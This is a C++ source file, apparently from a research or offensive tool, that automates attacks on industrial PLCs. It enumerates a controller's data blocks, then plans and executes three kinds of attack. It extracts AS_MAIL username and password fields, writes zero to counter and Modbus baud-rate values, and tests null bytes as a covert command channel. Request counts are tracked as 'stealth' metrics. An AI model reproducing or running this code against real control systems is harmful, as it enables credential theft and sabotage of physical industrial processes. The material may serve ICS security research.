#include "pcaad/pipeline.hpp"

#include "pcaad/errors.hpp"

#include <algorithm>
#include <chrono>

#include "nlohmann/json.hpp"

namespace pcaad {

using nlohmann::ordered_json;
using namespace std::chrono;

const char* pipeline_stage_name(PipelineStage s) {
    switch (s) {
    case PipelineStage::TargetSelection: return "target_selection";
    case PipelineStage::DataRetrieval: return "data_retrieval";
    case PipelineStage::VbDetermination: return "vb_determination";
    case PipelineStage::AttackSelection: return "attack_selection";
    case PipelineStage::Execution: return "execution";
    case PipelineStage::Report: return "report";
    }
    return "?";
}

const char* attack_kind_name(AttackKind k) {
    switch (k) {
    case AttackKind::Exfil: return "exfil";
    case AttackKind::Manipulate: return "manipulate";
    case AttackKind::C2: return "c2";
    }
    return "?";
}

AttackKind parse_attack_kind(const std::string& text) {
    if (text == "exfil") return AttackKind::Exfil;
    if (text == "manipulate") return AttackKind::Manipulate;
    if (text == "c2") return AttackKind::C2;
    throw Error(ErrorCode::ConfigInvalid, "unknown attack '" + text + "'");
}

std::vector<AttackPlanItem> plan_attacks(const std::vector<BlockFinding>& findings,
                                         const Catalog& catalog) {
    std::vector<AttackPlanItem> plan;
    for (const BlockFinding& f : findings) {
        if (f.verdict != Verdict::Identified) continue;
        const FbDecl* decl = catalog.find(f.candidates.front());
        if (!decl) continue;
        const DbLayout layout = compile_layout(*decl);

        auto add = [&](AttackKind kind, std::string detail) {
            plan.push_back({f.db, decl->fb_name, kind, std::move(detail)});
        };
        if (decl->fb_name == "AS_MAIL")
            add(AttackKind::Exfil, "dereference USERNAME/PASSWORD pointers");
        if (decl->fb_name == "MODBUS_COMM_LOAD") {
            add(AttackKind::Exfil, "read configured BAUD");
            add(AttackKind::Manipulate, "corrupt BAUD (write 0)");
        }
        if (decl->fb_name == "IEC_CU") add(AttackKind::Manipulate, "counter reset (write CV=0)");
        if (!layout.whole_block_sensitive && layout.full_null_bytes.size() >= 2)
            add(AttackKind::C2, "channel viable: sync@" +
                                    std::to_string(layout.full_null_bytes[0]) + " data@" +
                                    std::to_string(layout.full_null_bytes[1]));
    }
    return plan;
}

namespace {

std::uint64_t non_read_count(const std::map<spp::Opcode, std::uint64_t>& counts) {
    std::uint64_t n = 0;
    for (const auto& [op, c] : counts)
        if (op != spp::Opcode::ReadReq) n += c;
    return n;
}

void execute_attacks(spp::SppClient& client, RunReport& report, const Catalog& catalog,
                     const AutoOptions& options) {
    const auto wanted = [&](AttackKind k) {
        return std::find(options.attacks.begin(), options.attacks.end(), k) !=
               options.attacks.end();
    };
    for (const AttackPlanItem& item : report.plan) {
        if (!wanted(item.kind)) continue;
        const FbDecl* decl = catalog.find(item.fb_name);
        if (!decl) continue;
        const DbLayout layout = compile_layout(*decl);

        AttackOutcome outcome;
        outcome.kind = item.kind;
        outcome.db = item.db;
        outcome.fb_name = item.fb_name;
        try {
            switch (item.kind) {
            case AttackKind::Exfil: {
                std::vector<std::string> fields;
                if (item.fb_name == "AS_MAIL") fields = {"USERNAME", "PASSWORD"};
                else if (item.fb_name == "MODBUS_COMM_LOAD") fields = {"BAUD"};
                for (const std::string& field : fields)
                    outcome.exfil.push_back(exfil_field(client, layout, item.db, field));
                outcome.ok = true;
                outcome.detail = std::to_string(outcome.exfil.size()) + " field(s) retrieved";
                break;
            }
            case AttackKind::Manipulate: {
                const char* field = item.fb_name == "IEC_CU" ? "CV" : "BAUD";
                outcome.write = manipulate_write(client, layout, item.db, field,
                                                 spp::FieldValue(std::int64_t{0}),
                                                 options.verify_after_ms);
                outcome.ok = outcome.write->verdict == WriteVerdict::Persistent;
                outcome.detail = std::string(field) + "=0 " +
                                 write_verdict_name(outcome.write->verdict);
                break;
            }
            case AttackKind::C2: {
                // smoke-test the null bytes: write, read back, restore
                const std::uint16_t off = layout.full_null_bytes[0];
                const std::uint8_t probe[1] = {0xa5};
                const std::uint8_t zero[1] = {0x00};
                client.write_bytes(item.db, off, probe);
                const Bytes back = client.read_bytes(item.db, off, 1);
                client.write_bytes(item.db, off, zero);
                outcome.ok = back[0] == 0xa5;
                outcome.detail = outcome.ok ? "null byte round-trip ok" : "null byte unstable";
                break;
            }
            }
        } catch (const Error& e) {
            outcome.ok = false;
            outcome.detail = e.what();
        }
        report.outcomes.push_back(std::move(outcome));
    }
}

} // namespace

RunReport run_pipeline(const std::string& target, const SignatureSet& sigs,
                       const Catalog& catalog, const AutoOptions& options) {
    RunReport report;
    report.target = target;
    report.dry_run = options.dry_run;
    const auto t0 = steady_clock::now();
    try {
        spp::SppClient client = spp::SppClient::connect(target, options.timeout_ms);

        ScanOptions scan_options;
        scan_options.method = options.method;
        scan_options.probe_limit = options.probe_limit;
        report.scan = scan(client, sigs, scan_options);
        report.scan.target = target;
        report.enum_non_read_requests = non_read_count(client.request_counts());

        report.plan = plan_attacks(report.scan.findings, catalog);
        if (!options.dry_run && !options.attacks.empty())
            execute_attacks(client, report, catalog, options);

        const auto& counts = client.request_counts();
        const auto it = counts.find(spp::Opcode::WriteReq);
        report.write_requests = it == counts.end() ? 0 : it->second;
    } catch (const Error& e) {
        report.error = e.what();
    }
    report.elapsed_ms = duration_cast<milliseconds>(steady_clock::now() - t0).count();
    return report;
}

std::string redact_value(const std::string& value) {
    return std::string(std::min<std::size_t>(value.size(), 10), '*');
}

namespace {

ordered_json exfil_result_json(const ExfilResult& r, bool show_secrets) {
    ordered_json j;
    j["field"] = r.field;
    const std::string value = spp::field_value_to_string(r.value);
    j["value"] = r.sensitive && !show_secrets ? redact_value(value) : value;
    j["sensitive"] = r.sensitive;
    if (r.indirect && r.resolved) {
        j["indirect"] = true;
        j["resolved_db"] = r.resolved->db;
        j["resolved_offset"] = r.resolved->byte_offset();
    }
    j["requests"] = r.request_count;
    return j;
}

} // namespace

std::string exfil_results_to_json(const std::vector<ExfilResult>& results, bool show_secrets) {
    ordered_json doc = ordered_json::array();
    for (const ExfilResult& r : results) doc.push_back(exfil_result_json(r, show_secrets));
    return doc.dump(2) + "\n";
}

std::string run_report_to_json(const RunReport& report, bool show_secrets) {
    ordered_json doc;
    doc["target"] = report.target;
    doc["dry_run"] = report.dry_run;
    if (!report.error.empty()) doc["error"] = report.error;

    ordered_json jscan;
    jscan["method"] = scan_method_name(report.scan.method);
    jscan["requests"] = report.scan.requests;
    jscan["findings"] = ordered_json::array();
    for (const BlockFinding& f : report.scan.findings) {
        ordered_json jf;
        jf["db"] = f.db;
        jf["size"] = f.size;
        jf["verdict"] = verdict_name(f.verdict);
        jf["candidates"] = f.candidates;
        if (!f.family.empty()) jf["family"] = f.family;
        if (!f.header.empty()) jf["header"] = f.header;
        jscan["findings"].push_back(std::move(jf));
    }
    doc["enumeration"] = std::move(jscan);

    doc["plan"] = ordered_json::array();
    for (const AttackPlanItem& p : report.plan) {
        ordered_json jp;
        jp["db"] = p.db;
        jp["fb"] = p.fb_name;
        jp["attack"] = attack_kind_name(p.kind);
        jp["detail"] = p.detail;
        doc["plan"].push_back(std::move(jp));
    }

    doc["outcomes"] = ordered_json::array();
    for (const AttackOutcome& o : report.outcomes) {
        ordered_json jo;
        jo["attack"] = attack_kind_name(o.kind);
        jo["db"] = o.db;
        jo["fb"] = o.fb_name;
        jo["ok"] = o.ok;
        jo["detail"] = o.detail;
        if (!o.exfil.empty()) {
            jo["exfil"] = ordered_json::array();
            for (const ExfilResult& r : o.exfil)
                jo["exfil"].push_back(exfil_result_json(r, show_secrets));
        }
        if (o.write) {
            ordered_json jw;
            jw["field"] = o.write->field;
            jw["requested"] = o.write->requested;
            jw["before"] = o.write->before;
            jw["observed"] = o.write->observed;
            jw["verdict"] = write_verdict_name(o.write->verdict);
            jo["write"] = std::move(jw);
        }
        doc["outcomes"].push_back(std::move(jo));
    }

    doc["stealth"] = {{"enum_non_read_requests", report.enum_non_read_requests},
                      {"write_requests", report.write_requests}};
    doc["elapsed_ms"] = report.elapsed_ms;
    return doc.dump(2) + "\n";
}

} // namespace pcaad
